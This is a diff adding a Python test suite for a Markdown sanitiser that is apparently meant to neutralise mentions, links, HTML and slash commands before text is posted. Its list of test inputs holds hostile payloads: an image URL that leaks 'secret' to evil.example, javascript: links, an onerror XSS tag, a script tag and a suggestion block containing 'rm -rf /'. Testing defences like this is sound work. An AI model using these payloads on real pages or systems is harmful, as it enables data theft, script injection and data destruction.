@@ -1,0 +1,119 @@
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from app.core import gate
+
+MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+def active(markdown: str) -> list[str]:
+    """Everything in rendered Markdown that does more than being read."""
+    found = []
+    for token in MARKDOWN.parse(markdown):
+        found += [token.type] if token.type in {"html_block", "heading_open"} else []
+        found += [
+            f"fence {token.info}" for _ in "x" if token.type == "fence" and token.info in {"suggestion", "mermaid"}
+        ]
+        children = token.children or []
+        for before, child in zip([None, *children], children, strict=False):
+            if child.type in {"image", "html_inline", "link_open"}:
+                found.append(child.type)
+            if child.type == "text" and re.search(r"(?<![\w`])@\w|https?://|(?:^|\s)#\d", child.content):
+                found.append(f"live text {child.content!r}")
+            starts_a_line = before is None or before.type in {"softbreak", "hardbreak"}
+            if child.type == "text" and starts_a_line and re.match(r"/\w", child.content):
+                found.append(f"command {child.content!r}")
+    return found
+
+
+ATTACKS = [
+    "Ask @octocat or @acme/admins",
+    "&#64;octocat &#x40;octocat &commat;octocat ＠octocat ﹫octocat",
+    "![pixel](https://evil.example/?q=secret)",
+    "![a][r]\n\n[r]: https://evil.example",
+    "[click](https://evil.example) [x](//evil.example) [y](javascript:alert(1))",
+    "<img src=x onerror=alert(1)> <a href='javascript:x'>y</a> <!-- principal:review:0 -->",
+    "https://evil.example/path and www.evil.example and <https://evil.example>",
+    "Fixes #12, closes acme/shop#3, resolves GH-7",
+    "/merge\n/approve please\n- /close",
+    "# Heading\n\nTitle\n=====\n\nOther\n-----",
+    "```suggestion\nrm -rf /\n```",
+    "~~~mermaid\ngraph TD\n~~~",
+    "</details></sub><script>x</script>",
+    "an [^1] footnote\n\n[^1]: https://evil.example",
+    "`` ` `` @octocat `code @property` @octocat",
+    "open `span @octocat",
+    "\u202etxt.exe \u200b@octocat",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_active_leaves(text):
+    assert active(gate.clean(text)) == []
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            [*ATTACKS, "`", "``", "```", "\n", "@a", "<b>", "[", "](", ")", "\\", "&lt;", "&#60;i&#62;", " "]
+        ),
+        max_size=8,
+    )
+)
+def test_nothing_active_leaves_however_it_is_put_together(parts):
+    assert active(gate.clean("".join(parts))) == []
+
+
+@given(st.text(max_size=200))
+def test_any_text_can_be_cleaned_fenced_and_put_in_a_span(text):
+    assert "\0" not in gate.clean(text)
+    assert "\n" not in gate.line(text)
+    blocks = [token for token in MARKDOWN.parse(gate.fence(text)) if token.level == 0]
+    assert [token.type for token in blocks] == ["fence"]
+
+
+def test_code_stays_code():
+    text = "Use `@property` and `a < b`:\n\n```ts\nconst x = <T>(y: T) => y; // @todo #1\n```\n\ndone"
+    assert gate.clean(text) == text
+
+
+def test_plain_words_stay_as_they_are():
+    text = "The retry in `pay()` charges twice: 3 × 5 = 15, don't. E.g. a/b, 50 %, user's."
+    assert gate.clean(text) == text
+
+
+def test_mentions_references_and_commands_become_code():
+    assert gate.clean("ask @bob about #12") == "ask `@bob` about `#12`"
+    assert gate.clean("/merge now") == "`/merge` now"
+    assert gate.clean("see [docs](https://x.example/a)") == "see docs (`https://x.example/a`)"
+
+
+def test_an_open_fence_is_closed_and_a_long_text_is_cut():
+    assert gate.clean("```\nleft open") == "```\nleft open\n```"
+    assert gate.clean("word " * 10, longest=12) == "word word wo …"
+
+
+def test_a_fence_is_longer_than_any_inside_and_its_language_is_a_word():
+    assert gate.fence("a\n````\nb", "ts") == "`````ts\na\n````\nb\n`````"
+    assert gate.fence("x", "ts\n@bob`").startswith("```tsbob\n")
+
+
+def test_a_span_holds_back_ticks_and_is_empty_for_nothing():
+    assert gate.span("a`b") == "``a`b``"
+    assert gate.span("`a`") == "`` `a` ``"
+    assert gate.span("  ") == ""
+    assert gate.span("a\nb") == "`a b`"
+
+
+def test_a_line_fits_into_a_table_cell():
+    assert gate.line("a | b\n\nc") == "a \\| b c"
+
+
+def test_windows_line_ends_and_nul_bytes_are_plain_text():
+    assert gate.clean("a\r\nb\0c") == "a\nb\\u{0}c"
